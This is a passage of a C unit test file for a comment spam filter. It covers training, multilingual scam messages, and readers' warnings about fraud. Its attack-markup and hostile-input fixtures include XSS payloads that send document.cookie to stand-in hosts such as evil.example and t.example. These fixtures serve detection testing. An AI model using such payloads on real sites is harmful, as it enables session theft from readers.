/* test-spam-filter.c
 *
 * Copyright 2026 The Byline developers
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include "byline-core.h"

#include "spam-test-util.h"

static void
train_examples (BylineSpamFilter *filter)
{
  static const char *ham[] = {
    "Thanks for this article, the ferry timetable change affects my commute a lot.",
    "I live near North Quay and the charging station works are very noisy at night.",
    "Good reporting. Will the old diesel boats be sold or scrapped?",
    "The buses in our district are always full in the morning, glad to see new ones.",
    "Could you ask the transit authority about fares for students?",
  };
  static const char *spam[] = {
    "Best online casino bonus, click here http://spam.example/casino now",
    "Cheap pills pharmacy no prescription http://pills.example buy now",
    "Earn money from home, crypto bitcoin investment guaranteed http://coin.example",
    "casino casino casino free spins http://spin.example http://spin.example/2",
    "Buy replica watches cheap http://replica.example best price",
  };

  for (guint i = 0; i < G_N_ELEMENTS (ham); i++)
    byline_spam_filter_train (filter, &(BylineSpamSample) { .content = ham[i], .author_ip = "192.0.2.10" }, FALSE);
  for (guint i = 0; i < G_N_ELEMENTS (spam); i++)
    byline_spam_filter_train (filter, &(BylineSpamSample) {
                                .content = spam[i],
                                .author_ip = "203.0.113.66",
                                .author_email = "bot@spam.example",
                              }, TRUE);
}

static void
test_spam_rules_untrained (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) clean = NULL;
  g_autoptr(BylineSpamVerdict) links = NULL;
  g_autoptr(BylineSpamVerdict) caps = NULL;
  g_autoptr(BylineSpamVerdict) repeated = NULL;

  clean = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "I disagree with the mayor, but the article is fair.",
  });
  g_assert_cmpfloat (clean->score, <, 0.1);
  g_assert_cmpuint (clean->reasons->len, ==, 0);

  links = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "see http://a.example and https://b.example and www.c.example — a casino!",
  });
  g_assert_cmpfloat (links->score, >, 0.8);
  g_assert_true (has_reason (links, "3 links"));
  g_assert_true (has_reason (links, "“casino” is on the suspect list"));
  /* strongest first */
  g_assert_true (strstr (g_ptr_array_index (links->reasons, 0), "links") != NULL);

  caps = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "THIS IS THE BEST OFFER YOU WILL EVER SEE",
  });
  g_assert_true (has_reason (caps, "capitals"));

  repeated = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "nice post", .repeat_count = 4,
  });
  g_assert_true (has_reason (repeated, "same text as 4 other comments"));
  g_assert_cmpfloat (repeated->score, >=, 0.8);
}

static void
test_spam_word_lists (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) banned = NULL;
  g_autoptr(BylineSpamVerdict) inside_word = NULL;
  g_autoptr(BylineSpamVerdict) russian = NULL;
  const char *words[] = { "Scam", NULL };

  byline_spam_filter_set_banned_words (filter, words);
  banned = byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = "what a SCAM." });
  g_assert_cmpfloat (banned->score, >=, 0.99);
  g_assert_true (has_reason (banned, "“Scam” is on the banned list"));

  /* Whole words only: "scampi" is not "scam", "casinos" not "casino". */
  inside_word = byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = "scampi and casinos" });
  g_assert_cmpuint (inside_word->reasons->len, ==, 0);

  russian = byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = "Лучшее КАЗИНО онлайн" });
  g_assert_true (has_reason (russian, "казино"));
}

static void
test_spam_bayes_learns (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) spammy = NULL;
  g_autoptr(BylineSpamVerdict) hammy = NULL;
  const char *none[] = { NULL };

  /* Rules off, so that only what was learnt speaks. Bayes has a say from
   * 10 decisions of each kind: the examples twice. */
  byline_spam_filter_set_suspect_words (filter, none);
  train_examples (filter);
  train_examples (filter);
  g_assert_cmpuint (byline_spam_filter_get_n_spam (filter), ==, 10);
  g_assert_cmpuint (byline_spam_filter_get_n_ham (filter), ==, 10);

  spammy = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "free spins bonus at the best casino, cheap",
  });
  hammy = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "The ferry timetable at North Quay should change for students",
  });
  g_assert_cmpfloat (spammy->score, >, 0.7);
  g_assert_true (has_reason (spammy, "like past spam"));
  g_assert_cmpfloat (hammy->score, <, 0.3);
  g_assert_true (has_reason (hammy, "like approved comments"));
}

/* A small training set must not flag everything: a word seen once in one
 * spam comment is not enough to call a comment likely spam, and "N% like
 * past spam" is no reason while the classifier has seen too little. */
static void
test_spam_small_training (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  const char *none[] = { NULL };

  byline_spam_filter_set_suspect_words (filter, none);
  for (guint i = 0; i < 8; i++)
    {
      g_autofree char *text = g_strdup_printf ("offer number%u rareword%u today", i, i);

      byline_spam_filter_train (filter, &(BylineSpamSample) { .content = text }, TRUE);
    }
  for (guint i = 0; i < 3; i++)
    {
      g_autofree char *text = g_strdup_printf ("the ferry story part%u", i);

      byline_spam_filter_train (filter, &(BylineSpamSample) { .content = text }, FALSE);
    }
  {
    g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
      .content = "Saw rareword1 yesterday",
    });

    g_assert_cmpfloat (v->score, <, 0.5);
    g_assert_false (has_reason (v, "like past spam"));
  }

  /* Enough of both kinds now; that word is still seen once in spam. */
  for (guint i = 3; i < 12; i++)
    {
      g_autofree char *text = g_strdup_printf ("the ferry story part%u", i);

      byline_spam_filter_train (filter, &(BylineSpamSample) { .content = text }, FALSE);
    }
  for (guint i = 8; i < 10; i++)
    byline_spam_filter_train (filter, &(BylineSpamSample) { .content = "offer today" }, TRUE);
  {
    g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
      .content = "Saw rareword1 yesterday",
    });

    g_assert_cmpfloat (v->score, <, 0.5);
  }
}

static void
test_spam_known_sources (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) verdict = NULL;
  g_autoptr(BylineSpamVerdict) after_untrain = NULL;
  BylineSpamSample sample = {
    .content = "hello", .author_ip = "203.0.113.9", .author_email = "Bot@Spam.example",
  };

  byline_spam_filter_train (filter, &sample, TRUE);
  verdict = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "an innocent looking text", .author_ip = "203.0.113.9", .author_email = "bot@spam.example",
  });
  g_assert_true (has_reason (verdict, "IP address was marked as spam"));
  g_assert_true (has_reason (verdict, "e-mail address was marked as spam"));

  /* Approving that author more often than not lifts the suspicion */
  {
    g_autoptr(BylineSpamVerdict) approved = NULL;
    BylineSpamSample good = { .content = "thanks, useful", .author_ip = "203.0.113.9" };

    byline_spam_filter_train (filter, &good, FALSE);
    byline_spam_filter_train (filter, &good, FALSE);
    approved = byline_spam_filter_classify (filter, &(BylineSpamSample) {
      .content = "another comment", .author_ip = "203.0.113.9",
    });
    g_assert_false (has_reason (approved, "IP address was marked as spam"));
    byline_spam_filter_untrain (filter, &good, FALSE);
    byline_spam_filter_untrain (filter, &good, FALSE);
  }

  /* Undo forgets it again */
  byline_spam_filter_untrain (filter, &sample, TRUE);
  g_assert_cmpuint (byline_spam_filter_get_n_spam (filter), ==, 0);
  after_untrain = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "an innocent looking text", .author_ip = "203.0.113.9",
  });
  g_assert_cmpuint (after_untrain->reasons->len, ==, 0);

  /* An address that names no one (a comment without one, an erased one)
   * makes no other comment suspect. */
  for (guint i = 0; i < 2; i++)
    {
      static const char *const none[] = { "0.0.0.0", "127.0.0.1" };
      g_autoptr(BylineSpamVerdict) other = NULL;
      BylineSpamSample nobody = { .content = "buy now", .author_ip = none[i] };

      byline_spam_filter_train (filter, &nobody, TRUE);
      other = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = "an innocent looking text", .author_ip = none[i],
      });
      g_assert_false (has_reason (other, "IP address was marked as spam"));
    }
}

static void
test_spam_persistence (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamFilter) restored = NULL;
  g_autoptr(BylineSpamVerdict) a = NULL;
  g_autoptr(BylineSpamVerdict) b = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GBytes) junk = NULL;
  g_autoptr(GError) error = NULL;
  BylineSpamSample probe = { .content = "casino bonus for the ferry riders", .author_ip = "203.0.113.66" };
  const char *banned[] = { "spamword", NULL };
  BylineSpamFilter *bad;

  train_examples (filter);
  byline_spam_filter_set_banned_words (filter, banned);
  bytes = byline_spam_filter_to_bytes (filter);
  restored = byline_spam_filter_new_from_bytes (bytes, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (byline_spam_filter_get_n_spam (restored), ==, 5);
  g_assert_cmpstr (byline_spam_filter_get_banned_words (restored)[0], ==, "spamword");

  a = byline_spam_filter_classify (filter, &probe);
  b = byline_spam_filter_classify (restored, &probe);
  g_assert_cmpfloat_with_epsilon (a->score, b->score, 1e-9);
  g_assert_cmpuint (a->reasons->len, ==, b->reasons->len);

  junk = g_bytes_new_static ("\x01\x02not a filter at all\xff", 22);
  bad = byline_spam_filter_new_from_bytes (junk, &error);
  g_assert_null (bad);
  g_assert_error (error, BYLINE_SPAM_FILTER_ERROR, BYLINE_SPAM_FILTER_ERROR_INVALID);
}

/* The lead engineer's spot check after the ninth round, written without
 * looking at the rules: classic spam a new site's editor meets first,
 * and readers. Untrained, 12 of the first 14 were caught and no reader
 * flagged; missed were a spell caster who "brings back lost lovers" and
 * "ganhar dinheiro em casa" with a link (both 0.45). The rules for those
 * (byline-spam-filter-trades.c: spells in more words, money made at home
 * or online in 15 languages) catch them; the last spam here was written
 * after them. */
static void
test_spam_spot_check (void)
{
  static const Comment spam[] = {
    { "Very informative post, thanks! If anyone needs reliable movers in Manhattan check us out.",
      "Best Movers NYC", "info@bestmoversnyc.example", "https://bestmoversnyc.example" },
    { "I really enjoyed reading this. By the way I found a site with free spins every day: sarahslots.example",
      "Sarah", "sarah.k@gmail.example", "https://sarahslots.example" },
    { "I invested $500 with Mr James Wilson and got $8,000 in two weeks. Contact him on WhatsApp +1 555 0100 000",
      "Crypto Expert", "jam@mail.example", NULL },
    { "Buy cheap viagra online without prescription at www.pills-shop.example", "Maria", "maria@mail.example", NULL },
    { "Is your ex gone? Dr Olu brings back lost lovers in 24 hours. Email drolu.spellhome@mail.example",
      "Dr. Olu", "dr.olu@mail.example", NULL },
    { "Hello, I am Kim, 24, looking for a serious man. See my photos at kim-date.example", "Kim", "kim@mail.example",
      NULL },
    { "We can help your website rank #1 on Google. Contact us for a free audit.", "SEO Agency", "seo@agency.example",
      "https://seo-agency.example" },
    { "nice", "casino", "no@mail.example", "https://casino-online.example" },
    { "Earn $350 a day working from home! I did it and you can too. Visit workhome-jobs.example", "Lucy",
      "lucy@mail.example", NULL },
    { "Ótimo artigo! Visite meu site para ganhar dinheiro em casa: ganhedinheiro.example", "Ana", "ana@mail.example",
      NULL },
    { "Toller Artikel, danke! Günstige Kredite ohne Schufa gibt es hier: kredit-sofort.example", "Hans",
      "hans@mail.example", NULL },
    { "Excelente nota. Yo gané 3000 dólares con el señor Pedro, escríbele al WhatsApp +52 55 1234 5678", "Marta",
      "marta@mail.example", NULL },
    { "Отличная статья! Смотрите лучшие ставки на спорт здесь: bet-luchshie.example", "Ivan", "ivan@mail.example",
      NULL },
    { "Tired of your 9 to 5? Learn how to make money online with my free guide at bobsguide.example", "Bob",
      "bob@mail.example", NULL },
  };
  static const Comment genuine[] = {
    { "The council should have published the ferry timetable earlier. My kids missed the boat twice last week.",
      "Tom", "tom@mail.example", NULL },
    { "Interesting, but the figures in paragraph three seem off: the budget was 96 million, not 69.", "Priya",
      "priya@mail.example", NULL },
    { "Why does the article not mention that the ferry contract went to the mayor's cousin? Source: "
      "https://www.portvale.gov.example/contracts/2026", "Reader", "reader@mail.example", NULL },
    { "As a nurse I cannot earn money from home, and the article ignores people like me.", "Nurse",
      "n@mail.example", NULL },
    { "The ONS says more people make money online now: https://www.ons.gov.uk/employment", "Reader2",
      "r2@mail.example", NULL },
    { "Great point about the harbour, I grew up there. Alex", "Alex", "alex@mail.example",
      "https://alex-plumbing.example" },
  };
  guint flagged;
  guint caught = count_set_untrained (spam, G_N_ELEMENTS (spam), genuine, G_N_ELEMENTS (genuine), &flagged);

  g_assert_cmpuint (caught, ==, G_N_ELEMENTS (spam));
  g_assert_cmpuint (flagged, ==, 0);
}

static void
test_spam_hostile_input (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(GString) big = g_string_new (NULL);
  const char *hostile[] = {
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\xff\xfe\xfd invalid \xc3 utf-8 \xe2\x82",
    "\u202Egnp.exe\u202C http://",
    "https://",
    "www.",
    /* Ends that the disguise, contact and messenger rules read past */
    "contact", "contact:", "call +", "whatsapp", "whatsapp: (", "telegram @", "c.i.a.l.i.", "v-",
    "v1", "toll free +1 (", "a.b", "abc.", "@@@", "\xf0\x9d\x90", "𝐄𝐚𝐫𝐧 \xf0",
    "",
  };

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      BylineSpamSample sample = { .content = hostile[i], .author_url = hostile[i], .author_email = "@" };
      g_autoptr(BylineSpamVerdict) verdict = NULL;

      byline_spam_filter_train (filter, &sample, i % 2);
      verdict = byline_spam_filter_classify (filter, &sample);
      g_assert_cmpfloat (verdict->score, >=, 0.0);
      g_assert_cmpfloat (verdict->score, <=, 1.0);
    }

  for (guint i = 0; i < 60 * 1024 / 16; i++)
    g_string_append (big, "word http://x.y ");
  {
    g_autoptr(BylineSpamVerdict) verdict =
      byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = big->str });
    g_assert_true (has_reason (verdict, "links"));
  }
}

/* Markup that would run in a reader's browser is an attack, not a
 * reader's; markup quoted or pasted by readers is not */
static const Comment attacks[] = {
  { "Nice story <script>document.location='http://evil.example/steal?c='+document.cookie</script> "
    "<img src=x onerror=alert(2)> and <a href=\"javascript:alert(3)\">click here for the timetable</a>",
    "Tim", "tim@example.com", NULL },
  { "great <svg/onload=fetch('//x.example/'+document.cookie)>",
    "a", "a@b.example", NULL },
  { "<a href=javascript:alert(1)>timetable</a>",
    "b", "b@b.example", NULL },
  { "<img src=x onerror=\"this.src='//t.example/?'+document.cookie\">",
    "c", "c@b.example", NULL },
  { "Map <script src=\"https://evil.example/x.js\"></script>",
    "d", "d@b.example", NULL },
};

static const Comment markup_readers[] = {
  { "The hackers put <script> tags into the council's website, according to the report. Scary stuff.",
    "Ann", "ann@gmail.com", NULL },
  { "Here is the report: <a href=\"https://www.portvale.gov.uk/report\">council report</a>",
    "Bo", "bo@gmail.com", NULL },
  { "I work in web security: the attack you describe is called cross-site scripting, where someone "
    "posts javascript: links or onerror handlers. Keep your browser updated.",
    "Cy", "cy@gmail.com", NULL },
  { "Is the onion ferry still running? <b>Important</b> for us on the island.",
    "Di", "di@gmail.com", NULL },
  { "The video of the launch: <iframe src=\"https://www.youtube.com/embed/abc123\"></iframe>",
    "Ed", "ed@gmail.com", NULL },
  { "Our template had <script src=\"app.js\"></script> twice, which broke the page.",
    "Flo", "flo@gmail.com", NULL },
};

static void
test_spam_attack_markup (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  check_all_caught (attacks, G_N_ELEMENTS (attacks), markup_readers, G_N_ELEMENTS (markup_readers));
  for (guint i = 0; i < G_N_ELEMENTS (attacks); i++)
    {
      g_autoptr(BylineSpamVerdict) v = classify (filter, &attacks[i]);

      g_assert_true (has_reason (v, "would run in a reader"));
    }
}

/* The cheap test the sync makes before scoring a comment again: mostly
 * the story's words in runs of eight, in any markup or case */
static void
test_spam_story_echoed_by (void)
{
  g_autoptr(BylineSpamStory) story =
    byline_spam_story_new ("Harbour to get six electric ferries\n\nThe new vessels, built by a regional shipyard, "
                           "carry 180 passengers each and recharge in eleven minutes at the terminal berths.");
  g_autoptr(BylineSpamStory) empty = byline_spam_story_new ("");

  g_assert_true (byline_spam_story_echoed_by (story, "The new vessels, built by a regional shipyard, carry 180 "
                                                     "passengers each. Interesting!"));
  g_assert_true (byline_spam_story_echoed_by (story, "<p>THE NEW VESSELS, built by a <b>regional</b> shipyard, "
                                                     "carry 180 passengers each</p>"));
  /* seven words in a row are a phrase any two texts share */
  g_assert_false (byline_spam_story_echoed_by (story, "The new vessels, built by a regional yard, look fine."));
  /* a reader who quotes it and says more than the quotation */
  g_assert_false (byline_spam_story_echoed_by (story, "\"The new vessels, built by a regional shipyard, carry 180 "
                                                      "passengers each\" but the island pier still has no charger, "
                                                      "and nobody has said who pays for the cable across the channel."));
  g_assert_false (byline_spam_story_echoed_by (empty, "The new vessels, built by a regional shipyard, carry 180 "
                                                     "passengers each."));
}

/* A charity's or a club's address is known by its ending (".org",
 * ".org.uk"), not by a name under it that starts with "org": a site
 * dressed as a government's at "claim.organise-gov-refund.com" is
 * one, whatever its first word. */
static void
test_spam_org_by_ending (void)
{
  static const struct { const char *host; gboolean dressed; } hosts[] = {
    { "claim.organise-gov-refund.com", TRUE },
    { "www.tax-gov-refund.com", TRUE },
    { "www.millbrook-gov-watch.org", FALSE },
    { "kirkby-gov-watch.org.uk", FALSE },
  };
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  for (guint i = 0; i < G_N_ELEMENTS (hosts); i++)
    {
      g_autofree char *content = g_strdup_printf ("Council tax rebate: households in the flood zone can claim "
                                                  "£450 back. Apply before Friday at https://%s/claim",
                                                  hosts[i].host);
      g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = content, .author_name = "Sam",
      });

      g_test_message ("%s: %.2f", hosts[i].host, v->score);
      g_assert_cmpint (has_reason (v, "dressed as a government"), ==, hosts[i].dressed);
    }
}

/* A reader's warning: what she writes before the fraud's message, the
 * message, what she writes after */
typedef struct
{
  const char *before;
  const char *message;
  const char *after;
} Warning;

/* Each of @warnings is not flagged; its message posted as it is, is */
static void
assert_warnings_clear (const Warning *warnings,
                       guint          n_warnings)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  for (guint i = 0; i < n_warnings; i++)
    {
      g_autofree char *warning = g_strconcat (warnings[i].before, warnings[i].message, warnings[i].after, NULL);
      g_autoptr(BylineSpamVerdict) reader = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = warning, .author_name = "Ana Reyes", .author_email = "ana.reyes@example.com",
      });
      g_autoptr(BylineSpamVerdict) spam = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = warnings[i].message, .author_name = "Ana Reyes", .author_email = "ana.reyes@example.com",
      });

      g_test_message ("%.2f / %.2f: %s", reader->score, spam->score, warning);
      g_assert_cmpfloat (reader->score, <, 0.5);
      g_assert_cmpfloat (spam->score, >=, 0.5);
    }
}

/* Each of @readers is not flagged, each of @spam is */
static void
assert_readers_and_spam (const char * const *readers,
                         guint               n_readers,
                         const char * const *spam,
                         guint               n_spam)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  for (guint i = 0; i < n_readers + n_spam; i++)
    {
      gboolean reader = i < n_readers;
      const char *content = reader ? readers[i] : spam[i - n_readers];
      g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = content, .author_name = "Ana Reyes", .author_email = "ana.reyes@example.com",
      });

      g_test_message ("%.2f: %s", v->score, content);
      if (reader)
        g_assert_cmpfloat (v->score, <, 0.5);
      else
        g_assert_cmpfloat (v->score, >=, 0.5);
    }
}

/* A reader warning of a fraud quotes the message she got, number and
 * all: in any language the rules read, and in the quotation marks of
 * hers, the number is the fraud's, not hers. The same message posted as
 * it is remains spam. */
static void
test_spam_quoted_warning (void)
{
  static const Warning cases[] = {
    { "Pozor, podvod! Přišla mi zpráva \"", "Práce v Německu, ubytování zdarma, Viber +420 777 123 456",
      "\". Nenaleťte." },
    { "Uwaga, oszustwo! Dostałam SMS „", "Praca w Niemczech, zakwaterowanie gratis, WhatsApp +48 600 123 456",
      "”. Nie dajcie się nabrać." },
    { "Dikkat, dolandırıcılık! Bana \"", "Almanya'da iş, konaklama ücretsiz, WhatsApp +90 532 123 45 67",
      "\" diye mesaj geldi." },
    { "Hati-hati penipuan! Saya dapat pesan \"", "Kerja di Jepang, gaji besar, WhatsApp +62 812 3456 7890",
      "\". Jangan percaya." },
    { "Attention, arnaque : j'ai reçu « ", "Travail en Allemagne, logement gratuit, WhatsApp +33 6 12 34 56 78",
      " ». Ne répondez pas." },
  };

  assert_warnings_clear (cases, G_N_ELEMENTS (cases));
}

/* A warning passes on the fraud's message in the reader's own words too,
 * unquoted: a sentence that tells that someone got a message or saw an
 * advert is not the reader's invitation. The same message posted as it
 * is remains spam, and so do the adverts and testimonials that talk of
 * fraud to sell: "not a scam", "thanks to Agent Mark I got it back",
 * "Mrs Linda said I can get a loan". */
static void
test_spam_relayed_warning (void)
{
  static const Warning cases[] = {
    { "My neighbour got a message saying she had won a prize: ", "You have won a prize, WhatsApp +44 7700 900123 to "
      "claim it", ". It's a scam, don't reply." },
    { "Minha tia recebeu uma mensagem dizendo: ", "Você ganhou um prêmio, chama no Zap 11 98765-4321 para resgatar",
      ". É golpe, não respondam." },
    { "Meine Oma hat eine SMS bekommen: ", "Job im Homeoffice, 300 Euro am Tag, WhatsApp +49 151 23456789",
      ". Betrug, bitte nicht antworten!" },
    { "Ma voisine a reçu un SMS : ", "Travail à domicile, 300 euros par jour, WhatsApp +33 6 12 34 56 78",
      ". C'est une arnaque, ne répondez pas." },
    { "", "Робота в Німеччині на складі, житло безкоштовно, Viber +420 773 018 462",
      " — таку рекламу бачила у групі. Це шахраї, нічого не платіть." },
    { "Naka-receive si Tita ng text: ", "Online loan ₱50,000, walang collateral, text 0917 555 0134",
      ". Modus yan, budol!" },
  };
  static const char * const selling[] = {
    "Not a scam! Work from home and earn $500 a day, WhatsApp +44 7700 900123.",
    "I lost $45,000 to a crypto scam last year. Thanks to Agent Mark Hughes I got it all back. Contact him on "
    "WhatsApp +1 (415) 555-0199.",
    "Fraudsters are everywhere, I was scared, but Mrs Linda said I can get a loan at 3% with no collateral, "
    "WhatsApp +1 567 555 0199.",
    "Tired of scam ads? I saw real results with crypto trading, text +1 213 555 0147 to start earning today.",
    "Scam alert! Someone is selling fake tickets. Real tickets only at WhatsApp +44 7700 900111.",
  };

  assert_warnings_clear (cases, G_N_ELEMENTS (cases));
  assert_readers_and_spam (NULL, 0, selling, G_N_ELEMENTS (selling));
}

/* A reader warning of a bank's fake message tells others to call the
 * number on the back of their card, and links the bank's own site: an
 * invitation to no one's number. A fake alert that says the same still
 * gives its own number and address. */
static void
test_spam_card_line_advice (void)
{
  static const char * const readers[] = {
    "Se vi arriva un SMS della banca, non cliccate: chiamate il numero sul retro della carta o andate su "
    "https://www.intesasanpaolo.com.",
    "Si vous recevez un SMS de la banque, ne cliquez pas : appelez le numéro au dos de votre carte ou allez sur "
    "https://www.credit-agricole.fr vous-même.",
    "Si le llega un SMS del banco, no pinche: llame al número que aparece detrás de su tarjeta o entre en "
    "https://www.bbva.es.",
    "Se receber SMS do banco, não clique: ligue para o número no verso do cartão ou acesse https://www.itau.com.br.",
    "Wenn Sie eine SMS von der Bank bekommen, nichts anklicken: rufen Sie die Nummer auf der Rückseite Ihrer Karte "
    "an oder gehen Sie auf https://www.sparkasse.de.",
  };
  static const char * const alerts[] = {
    "Your card has been blocked. Call 0800 123 4567, the number on the back of your card, or unblock it now at "
    "secure-unblock-card.top",
    "La tua carta e stata bloccata: chiama subito il numero sul retro della carta 02 555 1234 o conferma i dati su "
    "intesa-sblocco.top",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), alerts, G_N_ELEMENTS (alerts));
}

/* A residents' association, a tenants' union or a committee of
 * volunteers gives its channel: where neighbours read its news, with no
 * money in it. A channel that sells, or a club that is bait, is still
 * spam whatever it calls itself. */
static void
test_spam_community_channel (void)
{
  static const char * const readers[] = {
    "Our residents' association posts updates on the works every week on Telegram: @momodani_residents. Free to "
    "join, no ads.",
    "Our tenants' union answers questions on the rent rules on Telegram @tenantsunion_lisboa, it's free.",
    "Il comitato Vomero Scende pubblica gli aggiornamenti sui lavori su Telegram: @vomeroscende, gestito da "
    "volontari.",
    "La asociación de vecinos publica los avisos de las obras en Telegram @vecinoslavapies, es gratis.",
    "A associação de moradores avisa tudo no WhatsApp (11) 98765-4321, é só pedir.",
  };
  static const char * const spam[] = {
    "Join our investment committee on Telegram @cryptowhales, earn 30% a month!",
    "The parish priest could not help me, but Dr Okoro the great spell caster brought my husband back, WhatsApp "
    "+234 803 555 0101.",
    "Volunteers wanted for our dating club, hot singles on Telegram @hotosaka",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* A club of those who share a pastime, a choir or a school's parents
 * give their group's channel as a residents' association does; with
 * money to make in it, or a come-on, it is spam whatever it calls
 * itself. */
static void
test_spam_pastime_club_channel (void)
{
  static const char * const readers[] = {
    "Our photo club walks the new seafront every Sunday at 8am, everyone welcome. Telegram: @nikis_photowalks",
    "We are a choir of retired teachers; the rehearsal schedule is on our Telegram @coro_vomero",
    "WhatsApp group for parents of the school on this street: message Anna on WhatsApp 0722 555 123 to be added.",
    "Il nostro coro di pensionati prova ogni martedì, gli orari sono sul nostro Telegram @coro_vomero.",
    "La chorale du quartier répète le jeudi soir, tout le monde est bienvenu : WhatsApp 06 12 34 56 78.",
    "Our cycling club rides the new lane every Sunday at 7am, the route is on our Telegram @cyclists_west.",
  };
  static const char * const spam[] = {
    "Join our book club on Telegram @vip_signals_club and earn 300 USDT daily with our mentor.",
    "Our photo club members make good money selling prints online, message our manager on WhatsApp "
    "+1 555 201 7788.",
    "Lonely? Our choir of beautiful single ladies is waiting for you, Telegram @hotladies_choir",
    "PTA mums are making 40k a month from home with this app, message me on WhatsApp +234 803 555 0101",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* A side job (副業, 兼职, 부업) named by a reader is no advert: one is
 * with what it earns or whom it wants */
static void
test_spam_side_job_mentioned (void)
{
  static const char * const readers[] = {
    "商店街の再建、楽しみです。うちの八百屋は副業で始めた妻の漬物も置いています。営業時間のお問い合わせは店の電話 "
    "06-6711-2345 まで。",
    "副業で写真を撮っています。桃谷の古い写真を集めているので、お持ちの方は商店会事務所 06-6712-0000 にご連絡ください。",
  };
  static const char * const spam[] = {
    "副業で月30万円稼げます！詳しくはLINE @fukugyo77 まで",
    "副業に興味ある方、LINE @side_job_jp でご連絡ください",
    "兼职日结，每天轻松赚500元，加微信 abc12345",
    "부업으로 월 300만원 수익, 카톡 ID money77",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* The link a reader quotes from a fraud's message to warn of it is the
 * fraud's, not a shop she sends readers to; the same link in her own
 * words, or beside "not a scam" or "buy only from", is weighed as ever */
static void
test_spam_quoted_fraud_link (void)
{
  static const Warning warnings[] = {
    { "Warning: I got an SMS \"", "Your parcel is held, pay the fee at https://parcel-redelivery.shop/track",
      "\" — it's a scam, don't click." },
    { "Beware, this is fake: \"", "Claim your refund now at https://tax-refund-gov.online/claim",
      "\". Delete it and report it." },
    { "Cuidado, é golpe! Minha mãe recebeu: \"",
      "Seu pacote está retido, pague a taxa em https://correios-taxa.shop/r", "\". Não cliquem." },
  };
  static const char * const shops[] = {
    "Not a scam, I promise: \"https://cheap-pills.shop\" has the best prices, I bought there.",
    "Lots of scams about, so buy only from \"https://cheap-shoes.shop\" and stay safe!",
    "Scams everywhere, but my shop https://cheap-shoes.shop is safe.",
  };
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  /* each warning, each of its messages alone, each shop */
  for (guint i = 0; i < 2 * G_N_ELEMENTS (warnings) + G_N_ELEMENTS (shops); i++)
    {
      gboolean warning = i < G_N_ELEMENTS (warnings);
      const Warning *w = &warnings[i % G_N_ELEMENTS (warnings)];
      g_autofree char *content = warning ? g_strconcat (w->before, w->message, w->after, NULL)
                                 : i < 2 * G_N_ELEMENTS (warnings) ? g_strdup (w->message)
                                 : g_strdup (shops[i - 2 * G_N_ELEMENTS (warnings)]);
      g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = content, .author_name = "Ana Reyes", .author_email = "ana.reyes@example.com",
      });

      g_test_message ("%.2f: %s", v->score, content);
      g_assert_cmpint (has_reason (v, "which looks like a shop or an advert"), ==, !warning);
      if (warning)
        g_assert_cmpfloat (v->score, <, 0.3);
    }
}

/* A reader who warns that someone else, on WhatsApp and a number she
 * gives, asks for money passes on the fraud's number, not her own; a
 * "warning" that sends readers to write to someone, or to the author,
 * is still spam */
static void
test_spam_third_party_demand (void)
{
  static const char * const readers[] = {
    "Attention, arnaque ! Un certain Moussa sur WhatsApp 77 123 45 67 demande 5 000 F de frais de dossier pour "
    "les maisons de Djougop. Ne payez rien, l'inscription est gratuite.",
    "Beware, scam: a man on WhatsApp +221 77 123 45 67 is asking families for a 5,000 franc fee for the new "
    "houses. Don't pay, it's free.",
    "Careful everyone, fraud alert. Someone using WhatsApp +44 7700 900123 asks for a deposit for the council "
    "flats. Report it to the police.",
    "Moytuleen ! Naxkat bi ngi ci WhatsApp 77 123 45 67, dafay laaj 5 000 F. Bu leen fey dara.",
